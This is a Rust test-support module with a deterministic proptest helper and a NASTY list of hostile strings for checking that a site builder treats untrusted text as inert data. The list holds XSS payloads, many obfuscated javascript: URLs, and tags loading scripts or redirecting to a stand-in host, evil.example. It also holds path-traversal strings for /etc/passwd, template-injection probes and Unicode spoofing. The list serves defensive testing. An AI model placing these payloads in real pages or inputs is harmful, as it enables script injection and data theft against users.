//! Everything a stranger writes is data: it never runs, never calls home, never reaches another
//! file, and never costs more than itself.

mod bodies;
mod feeds;
mod heavy;
pub mod holds;
mod names;
mod readers;
mod site;

use proptest::strategy::Strategy;
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};

/// Runs a property on `cases` values, the same ones each time: a test that fails, fails again.
pub fn property<S: Strategy>(cases: u32, values: S, holds: impl Fn(S::Value)) {
    let config = Config { cases, failure_persistence: None, ..Config::default() };
    let rng = TestRng::deterministic_rng(RngAlgorithm::ChaCha);
    let mut runner = TestRunner::new_with_rng(config, rng);
    let outcome = runner.run(&values, |value| {
        holds(value);
        Ok(())
    });
    if let Err(error) = outcome {
        panic!("{error}");
    }
}

/// What an attacker puts wherever something can be put.
pub const NASTY: &[&str] = &[
    "<script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "</div></main></body><script src=https://evil.example/x.js></script>",
    "<ScRiPt/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input name=a><button formaction=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<object data=data:text/html,x><embed src=//evil.example>",
    "<a href=javascript:alert(1) ping=https://evil.example target=_top download>",
    "<video poster=https://evil.example/p src=https://evil.example/v autoplay>",
    "<img src=//evil.example/p srcset='https://evil.example/p 2x'>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" style=\"position:fixed\" x=\"",
    "x onclick=alert(1) style=color:red",
    "onclick=alert(1)",
    ".evil style=x",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "%6aavascript:alert(1)",
    " \u{1}javascript:alert(1)",
    "\u{FFFF}javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&\u{FFFF}#1;javascript:alert(1)",
    "&\u{FFFF}#1;java&\u{FFFF}#1;script:alert(1)",
    "&\u{FFFF}#1;status/index.html",
    "&\u{FFFE}#2;javascript:alert(1)",
    "&#\u{FFFF}5;javascript:alert(1)",
    "&\u{7F}#x3;javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "https:evil.example",
    "https:/\\evil.example",
    "http://evil.example@good.example\\@evil.example",
    "/compose?send=1",
    "?send=1",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "pic.jpg\" onload=\"alert(1)",
    "__proto__",
    "constructor",
    "main",
    "m1",
    "m1-n1",
    "\u{202E}gpj.exe",
    "\u{2066}\u{200B}\u{FEFF}\u{61C}x",
    "\u{E0041}\u{3164}\u{115F}",
    "\u{0}\u{8}\u{B}\u{1B}[31m\u{9B}31m",
    "\u{1}status/index.html",
    "\u{2}#main",
    "\u{3}https://evil.example/p",
    "\u{5}pic.jpg",
    "{{ 7*7 }}{% include 'base.html' %}{# x #}",
    "${7*7}<%= 7*7 %>",
    "]]>&amp;&lt;&#60;script&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a|b|c\\|d",
    "]( javascript:alert(1) ",
    ")](x)![](y",
    "\n\n</textarea>\n\n",
    "潮が引く 👩\u{200D}🔧 e\u{301}",
];
